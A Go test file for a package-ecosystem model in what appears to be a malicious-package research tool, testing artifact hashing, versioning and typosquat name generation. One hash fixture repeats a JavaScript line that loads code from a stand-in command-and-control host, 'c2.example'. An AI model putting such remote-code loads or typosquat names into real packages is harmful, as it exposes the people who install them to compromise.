package ecosys

import (
	"strings"
	"testing"
	"testing/quick"
	"time"

	"malgraph/internal/xrand"
)

func TestEcosystemString(t *testing.T) {
	cases := map[Ecosystem]string{
		PyPI:     "PyPI",
		NPM:      "NPM",
		RubyGems: "RubyGems",
		Rust:     "Rust",
	}
	for eco, want := range cases {
		if got := eco.String(); got != want {
			t.Errorf("String(%d) = %q, want %q", int(eco), got, want)
		}
	}
	if got := Ecosystem(99).String(); got != "Ecosystem(99)" {
		t.Errorf("unknown ecosystem String = %q", got)
	}
}

func TestAllCoversTenEcosystems(t *testing.T) {
	if got := len(All()); got != 10 {
		t.Fatalf("paper covers 10 ecosystems, All() has %d", got)
	}
	seen := map[Ecosystem]bool{}
	for _, e := range All() {
		if seen[e] {
			t.Fatalf("duplicate ecosystem %v", e)
		}
		seen[e] = true
	}
}

func TestSourceExtAndManifest(t *testing.T) {
	if PyPI.SourceExt() != "py" || NPM.SourceExt() != "js" || RubyGems.SourceExt() != "rb" {
		t.Fatal("big-3 source extensions wrong")
	}
	if PyPI.ManifestName() != "requirements.txt" {
		t.Fatalf("PyPI manifest = %s", PyPI.ManifestName())
	}
	if NPM.ManifestName() != "package.json" {
		t.Fatalf("NPM manifest = %s", NPM.ManifestName())
	}
	if RubyGems.ManifestName() != "package.gemspec" {
		t.Fatalf("RubyGems manifest = %s", RubyGems.ManifestName())
	}
}

func TestCoordString(t *testing.T) {
	c := Coord{Ecosystem: PyPI, Name: "urllib", Version: "1.0.0"}
	if c.String() != "PyPI/urllib@1.0.0" {
		t.Fatalf("Coord.String = %q", c.String())
	}
	if c.Key() != c.String() {
		t.Fatal("Key must equal String")
	}
}

// TestCoordCompareKey checks CompareKey against comparing the built keys,
// over names and versions drawn from the key's own separators so one key's
// part can be a prefix of the other's or end where the other's separator
// sits.
func TestCoordCompareKey(t *testing.T) {
	const alphabet = "ab-./@0"
	word := func(raw []byte) string {
		var b strings.Builder
		for _, c := range raw {
			b.WriteByte(alphabet[int(c)%len(alphabet)])
		}
		return b.String()
	}
	f := func(e1, e2 uint8, n1, v1, n2, v2 []byte) bool {
		c := Coord{Ecosystem: All()[int(e1)%len(All())], Name: word(n1), Version: word(v1)}
		d := Coord{Ecosystem: All()[int(e2)%len(All())], Name: word(n2), Version: word(v2)}
		return c.CompareKey(d) == strings.Compare(c.Key(), d.Key()) &&
			d.CompareKey(c) == strings.Compare(d.Key(), c.Key()) &&
			c.CompareKey(c) == 0
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 5000}); err != nil {
		t.Fatal(err)
	}
}

func sampleArtifact() *Artifact {
	return NewArtifact(
		Coord{Ecosystem: PyPI, Name: "acookie", Version: "1.0.0"},
		"a cookie helper",
		[]File{
			{Path: "setup.py", Content: "import os\n"},
			{Path: "acookie/main.py", Content: "print('hi')\n"},
			{Path: "README.md", Content: "docs"},
			{Path: "requirements.txt", Content: "urllib\n"},
		},
	)
}

func TestArtifactFilesSorted(t *testing.T) {
	a := sampleArtifact()
	for i := 1; i < len(a.Files); i++ {
		if a.Files[i-1].Path >= a.Files[i].Path {
			t.Fatalf("files not sorted: %q >= %q", a.Files[i-1].Path, a.Files[i].Path)
		}
	}
}

func TestArtifactHashStableAndContentSensitive(t *testing.T) {
	a := sampleArtifact()
	b := sampleArtifact()
	if a.Hash() != b.Hash() {
		t.Fatal("identical artifacts must hash equal")
	}
	c := sampleArtifact()
	c.Files[0].Content += "x"
	c.hash = ""
	if c.Hash() == a.Hash() {
		t.Fatal("content change must change hash")
	}
}

func TestArtifactHashOrderIndependent(t *testing.T) {
	files := []File{{Path: "a.py", Content: "1"}, {Path: "b.py", Content: "2"}}
	rev := []File{files[1], files[0]}
	a := NewArtifact(Coord{Ecosystem: PyPI, Name: "x", Version: "1"}, "", files)
	b := NewArtifact(Coord{Ecosystem: PyPI, Name: "x", Version: "1"}, "", rev)
	if a.Hash() != b.Hash() {
		t.Fatal("hash must be independent of input file order")
	}
}

func TestArtifactHashNoFramingCollision(t *testing.T) {
	// "ab"+"c" vs "a"+"bc" must hash differently thanks to length framing.
	a := NewArtifact(Coord{}, "", []File{{Path: "p", Content: "abc"}})
	b := NewArtifact(Coord{}, "", []File{{Path: "pa", Content: "bc"}})
	if a.Hash() == b.Hash() {
		t.Fatal("framing collision")
	}
}

// TestArtifactHashPinned pins Artifact.Hash hex values, so a rewrite of the
// serialization that changes a byte of its length-prefixed framing fails
// here rather than as a shifted duplicated-edge set.
func TestArtifactHashPinned(t *testing.T) {
	// big serializes to more than the 8 KiB stack buffer of Hash.
	big := NewArtifact(Coord{Ecosystem: NPM, Name: "pädding", Version: "0.0.1"}, "", []File{
		{Path: "index.js", Content: strings.Repeat("require('https://c2.example/é');\n", 300)},
		{Path: "empty.js", Content: ""},
		{Path: "package.json", Content: `{"name":"pädding"}`},
	})
	for _, tc := range []struct {
		a    *Artifact
		want string
	}{
		{sampleArtifact(), "7e8dcbd64a92a8de51ab11f8f88c72cd01d7622d298c18d5b11fc312758ca3cf"},
		{big, "ef1903e89d007ff00a1244028cfad54de7b95d768d51231826d58631894b074c"},
	} {
		if got := tc.a.Hash(); got != tc.want {
			t.Errorf("%s: Hash %s, want %s", tc.a.Coord.Name, got, tc.want)
		}
	}
}

func TestSourceFilesFilter(t *testing.T) {
	a := sampleArtifact()
	src := a.SourceFiles()
	if len(src) != 2 {
		t.Fatalf("want 2 source files, got %d", len(src))
	}
	for _, f := range src {
		if !IsSourcePath(f.Path) {
			t.Fatalf("non-source file %q returned", f.Path)
		}
	}
}

func TestManifestLookup(t *testing.T) {
	a := sampleArtifact()
	m, ok := a.Manifest()
	if !ok || m.Path != "requirements.txt" {
		t.Fatalf("manifest lookup failed: %v %v", m, ok)
	}
	noManifest := NewArtifact(Coord{Ecosystem: NPM, Name: "x", Version: "1"}, "", nil)
	if _, ok := noManifest.Manifest(); ok {
		t.Fatal("expected no manifest")
	}
}

func TestMergedSourceOrder(t *testing.T) {
	a := sampleArtifact()
	merged := a.MergedSource()
	iMain := strings.Index(merged, "print")
	iSetup := strings.Index(merged, "import os")
	if iMain == -1 || iSetup == -1 || iMain > iSetup {
		t.Fatalf("merged source not in path order: %q", merged)
	}
	// The byte form appends the same blob, after whatever dst holds.
	if got := a.AppendMergedSource([]byte("prefix")); string(got) != "prefix"+merged {
		t.Fatalf("AppendMergedSource gives %q, want %q", got, "prefix"+merged)
	}
}

func TestCloneIsDeep(t *testing.T) {
	a := sampleArtifact()
	c := a.Clone()
	c.Files[0].Content = "mutated"
	if a.Files[0].Content == "mutated" {
		t.Fatal("Clone must not share file backing array")
	}
}

func TestReleaseLifecycle(t *testing.T) {
	rel := Release{
		Coord:      Coord{Ecosystem: NPM, Name: "x", Version: "1.0.0"},
		ReleasedAt: time.Date(2023, 2, 1, 0, 0, 0, 0, time.UTC),
	}
	if rel.Removed() {
		t.Fatal("zero RemovedAt must mean not removed")
	}
	horizon := time.Date(2023, 2, 11, 0, 0, 0, 0, time.UTC)
	if got := rel.PersistedFor(horizon); got != 10*24*time.Hour {
		t.Fatalf("PersistedFor(horizon) = %v", got)
	}
	rel.RemovedAt = rel.ReleasedAt.Add(48 * time.Hour)
	if !rel.Removed() {
		t.Fatal("expected removed")
	}
	if got := rel.PersistedFor(horizon); got != 48*time.Hour {
		t.Fatalf("PersistedFor after removal = %v", got)
	}
}

func TestNameForgeUniqueness(t *testing.T) {
	f := NewNameForge(xrand.New(1))
	seen := map[string]bool{}
	for i := 0; i < 500; i++ {
		var name string
		switch i % 3 {
		case 0:
			name = f.Squat(PyPI)
		case 1:
			name = f.Fresh()
		default:
			name = f.CommonWord()
		}
		if seen[name] {
			t.Fatalf("duplicate name %q", name)
		}
		seen[name] = true
	}
}

func TestClaimExact(t *testing.T) {
	f := NewNameForge(xrand.New(2))
	if !f.ClaimExact("urllib") {
		t.Fatal("first claim should succeed")
	}
	if f.ClaimExact("urllib") {
		t.Fatal("second claim should fail")
	}
}

func TestVersionFormat(t *testing.T) {
	rng := xrand.New(3)
	for i := 0; i < 200; i++ {
		v := Version(rng)
		base, _, _ := strings.Cut(v, "-")
		if parts := strings.Split(base, "."); len(parts) != 3 {
			t.Fatalf("bad version %q", v)
		}
	}
}

func TestBumpVersion(t *testing.T) {
	cases := map[string]string{
		"1.2.3":        "1.2.4",
		"0.0.9":        "0.0.10",
		"1.2.3-beta.1": "1.2.4-beta.1",
		"weird":        "weird.1",
	}
	for in, want := range cases {
		if got := BumpVersion(in); got != want {
			t.Errorf("BumpVersion(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestBumpVersionAlwaysChanges(t *testing.T) {
	rng := xrand.New(4)
	f := func(_ uint8) bool {
		v := Version(rng)
		return BumpVersion(v) != v
	}
	if err := quick.Check(f, nil); err != nil {
		t.Fatal(err)
	}
}

func TestIsSourcePath(t *testing.T) {
	cases := map[string]bool{
		"a.py": true, "b.js": true, "c.rb": true,
		"README.md": false, "package.json": false, "x.pyc": false,
	}
	for path, want := range cases {
		if got := IsSourcePath(path); got != want {
			t.Errorf("IsSourcePath(%q) = %v", path, got)
		}
	}
}

func TestSquatNeverEqualsLegitimateName(t *testing.T) {
	f := NewNameForge(xrand.New(77))
	for _, eco := range Big3() {
		bases := map[string]bool{}
		for _, b := range PopularTargets[eco] {
			bases[b] = true
		}
		for i := 0; i < 2000; i++ {
			if name := f.Squat(eco); bases[name] {
				t.Fatalf("%v: squat produced the legitimate name %q", eco, name)
			}
		}
	}
}
